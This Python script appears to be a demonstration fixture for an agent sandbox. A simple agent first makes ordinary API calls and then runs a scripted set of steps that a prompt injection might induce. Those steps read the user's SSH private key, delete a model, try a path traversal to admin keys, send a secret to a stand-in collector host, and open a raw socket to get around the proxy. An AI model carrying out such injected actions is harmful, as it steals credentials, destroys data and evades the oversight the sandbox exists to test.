"""A small agent, as one might be written anywhere: it knows nothing of sandlock, has no proxy and
no CA option set, and uses the standard library only. It does its work, and then what a prompt
injection might talk it into."""

import json
import os
import socket
import sys
import urllib.error
import urllib.request

API = sys.argv[1] if len(sys.argv) > 1 else "https://api.example.com"


def call(method, url, body=None):
    """One request; tells how it ended."""
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data, {"Content-Type": "application/json"},
                                     method=method)
    print(f"agent: {method} {url}", flush=True)
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return report(answer)
    except urllib.error.HTTPError as error:
        said = json.loads(error.read() or b"{}")
        print(f"  -> {error.code} {said.get('error', '')}: {said.get('reason', '')}")
        if said.get("allow_with"):
            print(f"  -> it would need: {said['allow_with']}")
    except urllib.error.URLError as error:
        print(f"  -> failed: {error.reason}")
    return None


def report(answer):
    if answer.headers.get_content_type() == "text/event-stream":
        words = []
        for line in answer:  # one event at a time, as the server sends them
            if line.startswith(b"data: {"):
                choice = json.loads(line[6:])["choices"][0]
                words.append(choice["delta"].get("content", ""))
        print(f"  -> {answer.status}, streamed: {''.join(words)}")
        return words
    text = answer.read().decode()
    print(f"  -> {answer.status} {text.strip()[:90]}")
    return text


def read(path):
    print(f"agent: read {path}", flush=True)
    try:
        with open(os.path.expanduser(path)) as file:
            print(f"  -> {len(file.read())} characters")
    except OSError as error:
        print(f"  -> failed: {error.strerror}")


def connect(address, port):
    print(f"agent: connect to {address} port {port}, past any HTTP library", flush=True)
    try:
        socket.create_connection((address, port), 20).close()
        print("  -> connected")
    except OSError as error:
        print(f"  -> failed: {error.strerror or error}")


print("-- its work")
call("GET", f"{API}/v1/models")
call("POST", f"{API}/v1/chat/completions",
     {"model": "test-1", "stream": True, "messages": [{"role": "user", "content": "hello"}]})
print("-- what it was talked into")
read("~/.ssh/id_ed25519")
call("DELETE", f"{API}/v1/models/test-1")
call("POST", f"{API}/v1/files", {"purpose": "exfiltrate"})
call("GET", f"{API}/v1/models/../../admin/keys")
call("GET", "https://collector.example.net/?secret=1")
connect("192.0.2.1", 443)
